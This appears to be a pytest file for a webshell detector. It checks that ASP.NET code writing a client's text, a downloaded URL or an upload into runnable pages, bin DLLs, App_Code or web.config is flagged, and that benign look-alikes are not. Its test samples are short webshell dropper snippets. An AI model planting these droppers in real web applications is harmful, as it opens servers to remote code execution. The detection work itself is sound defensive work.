"""A writer that puts the client's text into a file whose name the code fixes and the server
runs as a page (`File.WriteAllText(Server.MapPath("x.aspx"), Request["c"])`): a dropper, which
one request turns into a new shell. The path is the code's, so the file-write rule (the client
picks path and content) did not see it. The same for files the server runs though they are no
pages: a DLL in the site's bin folder, a code file under App_Code, web.config; and an upload saved
under its own name into bin or App_Code. Benign look-alikes: pages written from the site's own
templates, the client's text kept in a data file, a fixed page copied from the site's own file,
an installer putting the connection string it was given into web.config, a DLL copied from the
site's own file (docs/detection/webshell-code.md, "Pages written from the client's text", "Code
files planted in bin, App_Code and web.config")."""

from __future__ import annotations

import pytest

from code_support import assert_benign, assert_found, cs_page, run, vb_page

RULE = "EXH-WS-CODE-PAGE-WRITE"

SHELLS = [
    (
        "drop.aspx",
        cs_page('System.IO.File.WriteAllText(Server.MapPath("help.aspx"), Request.Form["c"]);'),
        ["form field 'c'", "writes it into a page the server runs", "into help.aspx"],
    ),
    (
        "drop-b64.aspx",
        cs_page(
            'var body = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(Request["p"]));\n'
            'System.IO.File.WriteAllText(System.IO.Path.Combine(Server.MapPath("~/aspnet_client/"), "err.ashx"), body);'
        ),
        ["request parameter 'p'", "base64-decodes it", "into err.ashx"],
    ),
    (
        "drop-writer.aspx",
        cs_page(
            'using (var w = new System.IO.StreamWriter(Server.MapPath("~/") + "status.asmx")) {\n'
            '    w.Write(Request.Headers["X-Body"]);\n}'
        ),
        ["request header 'X-Body'", "(new StreamWriter; into status.asmx)"],
    ),
    (
        "drop-fetch.aspx",
        cs_page('new System.Net.WebClient().DownloadFile(Request.QueryString["u"], Server.MapPath("ok.aspx"));'),
        ["query parameter 'u'", "fetches the URL it names", "into ok.aspx"],
    ),
    (
        "drop-fileinfo.aspx",
        cs_page(
            'var w = new System.IO.FileInfo(Server.MapPath("~/owa/auth/logon2.aspx")).CreateText();\n'
            'w.Write(Request.Form["c"]);\nw.Close();'
        ),
        ["form field 'c'", "(FileInfo.CreateText; into logon2.aspx)"],
    ),
    (
        "drop-vb.aspx",
        vb_page('My.Computer.FileSystem.WriteAllText(Server.MapPath("error.aspx"), Request("c"), False)'),
        ["request parameter 'c'", "into error.aspx"],
    ),
    (
        "drop-dll.aspx",
        cs_page(
            'System.IO.File.WriteAllBytes(Server.MapPath("~/bin/App_Web_x.dll"), Request.BinaryRead(Request.ContentLength));'
        ),
        ["the request body", "into bin/App_Web_x.dll"],
    ),
    (
        "drop-appcode.aspx",
        cs_page('System.IO.File.WriteAllText(Server.MapPath("~/App_Code/Util.cs"), Request.Form["src"]);'),
        ["form field 'src'", "into App_Code/Util.cs"],
    ),
    (
        "drop-config.aspx",
        vb_page('System.IO.File.WriteAllText(Server.MapPath("~/images/web.config"), Request.Form("cfg"))'),
        ["form field 'cfg'", "into web.config"],
    ),
    (
        "drop-body.ashx",
        '<%@ WebHandler Language="C#" Class="H" %>\n'
        "public class H : System.Web.IHttpHandler {\n"
        "    public void ProcessRequest(System.Web.HttpContext ctx) {\n"
        "        var text = new System.IO.StreamReader(ctx.Request.InputStream).ReadToEnd();\n"
        '        System.IO.File.WriteAllText(@"C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\log.aspx", text);\n'
        "    }\n"
        "    public bool IsReusable { get { return false; } }\n}",
        ["the request body", "into log.aspx"],
    ),
]


@pytest.mark.parametrize(("name", "code", "words"), SHELLS, ids=[s[0] for s in SHELLS])
def test_page_written_from_the_clients_text(name: str, code: str, words: list[str]) -> None:
    report = assert_found(name, code, RULE, words)
    (finding,) = [c for c in report.capabilities if c.rule_id == RULE]
    assert finding.line in finding.lines


@pytest.mark.parametrize(
    "save",
    [
        'f.SaveAs(Server.MapPath("~/bin/" + f.FileName));',
        'f.SaveAs(System.IO.Path.Combine(Server.MapPath("~/App_Code"), f.FileName));',
        'f.SaveAs(Server.MapPath("~/bin") + "\\\\" + f.FileName);',
    ],
    ids=["bin", "app-code", "bin-joined"],
)
def test_an_upload_under_its_own_name_into_a_code_folder_is_a_write(save: str) -> None:
    # The client picks the file's name, so it picks a DLL the application loads at its next
    # start, or a code file it compiles.
    assert_found(
        "up.aspx", cs_page("var f = Request.Files[0];\n" + save), "EXH-WS-CODE-FILE-WRITE", ["an uploaded file"]
    )


def test_a_client_picked_path_stays_the_file_write_rule() -> None:
    report = run("both.aspx", cs_page('System.IO.File.WriteAllText(Server.MapPath(Request["p"]), Request["c"]);'))
    rules = [c.rule_id for c in report.capabilities]
    assert "EXH-WS-CODE-FILE-WRITE" in rules and RULE not in rules


BENIGN = [
    (
        "module-maker.aspx",
        # A module generator: the page's name from the client, its text from the site's template.
        cs_page(
            'var template = System.IO.File.ReadAllText(Server.MapPath("~/Templates/Module.ascx.txt"));\n'
            'System.IO.File.WriteAllText(Server.MapPath("~/Modules/New.ascx"), template.Replace("$NAME$", "Module"));'
        ),
    ),
    (
        "notes.aspx",
        # The client's text kept in a data file the server does not run.
        cs_page('System.IO.File.WriteAllText(Server.MapPath("~/App_Data/notes.txt"), Request.Form["note"]);'),
    ),
    (
        "offline.aspx",
        # A maintenance switch writing a fixed page.
        cs_page(
            'if (Request.Form["down"] == "1") System.IO.File.WriteAllText(Server.MapPath("~/app_offline.htm"), "<h1>Back soon</h1>");\n'
            'System.IO.File.WriteAllText(Server.MapPath("~/Default.aspx"), "<%@ Page Language=\\"C#\\" %><h1>Home</h1>");'
        ),
    ),
    (
        "installer.aspx",
        # The connection string the installer was given, put into the site's configuration.
        cs_page(
            'System.IO.File.WriteAllText(Server.MapPath("~/web.config"), "<configuration><connectionStrings>'
            '<add name=\\"db\\" connectionString=\\"" + Request.Form["cs"] + "\\"/></connectionStrings></configuration>");'
        ),
    ),
    (
        "module-install.aspx",
        # A module's DLL copied into bin from the site's own package folder.
        cs_page(
            'System.IO.File.WriteAllBytes(Server.MapPath("~/bin/Module.dll"), '
            'System.IO.File.ReadAllBytes(Server.MapPath("~/App_Data/packages/Module.dll")));'
        ),
    ),
    (
        "uploads-folder.aspx",
        cs_page(
            'var f = Request.Files[0];\nf.SaveAs(Server.MapPath("~/uploads/" + System.IO.Path.GetFileName(f.FileName)));'
        ),
    ),
    (
        "uploaded-logo.aspx",
        # An upload saved under a fixed image name.
        cs_page('Logo.SaveAs(Server.MapPath("~/images/logo.png"));') + '\n<asp:FileUpload ID="Logo" runat="server" />',
    ),
]


@pytest.mark.parametrize(("name", "code"), BENIGN, ids=[b[0] for b in BENIGN])
def test_benign_page_writers(name: str, code: str) -> None:
    assert_benign(name, code)
    assert RULE not in [c.rule_id for c in run(name, code).capabilities]
